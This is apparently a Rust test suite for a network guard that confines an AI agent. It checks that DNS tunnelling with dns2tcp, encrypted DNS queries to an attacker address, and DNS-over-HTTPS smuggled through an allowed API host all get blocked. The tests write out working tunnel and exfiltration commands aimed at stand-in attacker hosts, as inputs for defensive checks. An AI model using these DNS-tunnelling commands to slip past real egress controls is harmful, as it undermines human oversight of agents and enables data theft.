//! Names as a way out: a real tunnel, encrypted resolvers, resolvers behind allowed hosts. Each works without the guard.
#![allow(clippy::unwrap_used, clippy::print_stdout, reason = "tests")]

use std::time::Duration;

use enforcer_tests::packet::{Packet, TCP, UDP};
use enforcer_tests::world::{Daemon, Output, Running, World, command, plan};

const LIMIT: Duration = Duration::from_secs(60);
/// Where tunnels end: an address that the other servers outside leave free.
const TUNNEL_SERVER: &str = "44.77.0.53";

/// The tunnel's zone is under a wildcard: the widest that a policy can be for it.
const POLICY: &str = r#"
version: 1
agent: bot
allow:
  - { name: zone, host: "*.tunnel.test" }
  - { name: api, host: api.example.test, methods: [GET, POST] }
"#;

fn outside_address(world: &World) {
    let line = ["ip", "addr", "add", &format!("{TUNNEL_SERVER}/24"), "dev", "net0"].map(str::to_owned);
    assert!(command::run(world.outside(&line), LIMIT).unwrap().ok());
}

fn as_agent(daemon: &Daemon<'_>, flags: &[&str], script: &str) -> Output {
    let words = [&["run"], flags, &["bot", "--", "sh", "-c", script]].concat();
    let mut command = daemon.tool(&words);
    command.current_dir("/tmp");
    command::run(command, LIMIT).unwrap()
}

fn unguarded(world: &World, script: &str) -> Output {
    command::run(world.unguarded(&["sh", "-c", script]), LIMIT).unwrap()
}

/// Packets that are not the daemon's own to the servers it may ask.
fn stray(world: &World, mark: usize) -> Vec<String> {
    let own = |p: &Packet| {
        p.ip.is_some_and(|ip| ip.destination == plan::SERVER_V4 || ip.destination == plan::SERVER_V6)
    };
    world.sniffer.since(mark).iter().filter(|p| !own(p)).map(ToString::to_string).collect()
}

fn asked_a_name_server(world: &World, mark: usize) -> bool {
    world.sniffer.since(mark).iter().any(|p| p.ip.is_some_and(|ip| ip.destination_port == 53))
}

/// TCP through names: the attacker greets whoever is at the other end.
#[test]
fn dns2tcp_carries_nothing() {
    let world = World::new().unwrap();
    outside_address(&world);
    let settings = world.dir.join("outside/dns2tcpd.conf");
    std::fs::write(
        &settings,
        format!(
            "listen = {TUNNEL_SERVER}\nport = 53\nuser = nobody\nchroot = /var/empty\ndomain = tunnel.test\nresources = out:{}:443\n",
            plan::ATTACKER_V4
        ),
    )
    .unwrap();
    std::fs::create_dir_all("/var/empty").unwrap();
    let server = Running::spawn(
        world.outside(&["dns2tcpd", "-F", "-d", "1", "-f", &settings.display().to_string()]),
        None,
    )
    .unwrap();
    std::thread::sleep(Duration::from_millis(700));
    // A resolver as an argument, or none: the system's.
    let client = |resolver: &str| {
        format!(
            "dns2tcpc -f /dev/null -z tunnel.test -r out -l 2222 {resolver} > /dev/null 2>&1 & client=$!; sleep 2; \
             timeout 6 bash -c 'head -c 17 < /dev/tcp/127.0.0.1/2222'; kill $client 2> /dev/null; true"
        )
    };
    let off = unguarded(&world, &client(TUNNEL_SERVER));
    assert!(off.stdout.contains(plan::BANNER), "the tunnel works without a guard: {off}");
    world.sniffer.quiet();

    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let mark = world.sniffer.mark();
    for resolver in [TUNNEL_SERVER, "127.0.0.1"] {
        let on = as_agent(&daemon, &[], &client(resolver));
        assert!(!on.all().contains(plan::BANNER), "{on}");
    }
    assert_eq!(stray(&world, mark), Vec::<String>::new());
    assert!(!asked_a_name_server(&world, mark), "a name under a wildcard causes no packet");
    server.abandon().unwrap();
}

/// Over TLS, HTTPS and QUIC to a resolver of the agent's own choice.
#[test]
fn encrypted_resolvers_are_out_of_reach() {
    let world = World::new().unwrap();
    let attacker = plan::ATTACKER_V4;
    let ways = [("+tls", TCP, 853), ("+https", TCP, 443), ("+quic", UDP, 853)];
    let line = |way: &str| format!("kdig +timeout=1 +retry=0 {way} @{attacker} secret.tunnel.test A");
    for (way, protocol, port) in ways {
        let mark = world.sniffer.mark();
        let off = unguarded(&world, &line(way));
        let sent = |p: &Packet| {
            p.ip.is_some_and(|ip| {
                ip.destination == attacker && ip.protocol == protocol && ip.destination_port == port
            })
        };
        assert!(world.sniffer.saw(mark, Duration::from_secs(2), sent), "{way} leaves without a guard: {off}");
    }
    world.sniffer.quiet();
    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let mark = world.sniffer.mark();
    for (way, ..) in ways {
        let on = as_agent(&daemon, &[], &line(way));
        assert!(!on.ok() || !on.stdout.contains("ANSWER SECTION"), "{on}");
    }
    assert_eq!(stray(&world, mark), Vec::<String>::new());
}

/// Through a host that the policy allows: `api` may be asked anything, but not for names.
#[test]
fn an_allowed_host_is_no_resolver() {
    let world = World::new().unwrap();
    let ca = world.upstream_ca().display().to_string();
    let requests = [
        "-H 'content-type: application/dns-message' --data-binary x https://api.example.test/dns-query",
        "https://api.example.test/dns-query?dns=AAAB",
        "-H 'content-type: application/dns-message' --data-binary x https://api.example.test/any/path",
        "-H 'accept: application/dns-json' 'https://api.example.test/resolve?name=secret.tunnel.test'",
    ];
    for request in requests {
        let direct = format!(
            "curl -s -o /dev/null -w '%{{http_code}}' --resolve api.example.test:443:{} --cacert {ca} {request}",
            plan::SERVER_V4
        );
        let off = command::run(world.on_host(&["sh", "-c", &direct]), LIMIT).unwrap();
        assert_eq!(off.stdout, "200", "{off}");
    }
    let daemon = world.daemon(&[("bot", POLICY)]).unwrap();
    let before = world.seen().len();
    for request in requests {
        let on = as_agent(&daemon, &[], &format!("curl -s {request}"));
        assert!(on.stdout.contains("\"code\":\"dns_over_https\""), "{on}");
    }
    assert_eq!(world.seen().len(), before, "the server was asked nothing");
    // The control: the same host, asked for something else.
    let on = as_agent(&daemon, &[], "curl -s https://api.example.test/v1/x");
    assert!(on.stdout.contains("\"method\":\"GET\""), "{on}");

    // A rule that writes the path out means it.
    daemon
        .write_policy(
            "bot",
            &POLICY.replace("methods: [GET, POST]", "methods: [GET, POST], paths: /dns-query"),
        )
        .unwrap();
    daemon.cli_ok(&["reload"]).unwrap();
    let on = as_agent(&daemon, &[], &format!("curl -s {}", requests[0]));
    assert!(on.stdout.contains("\"method\":\"POST\""), "{on}");
}
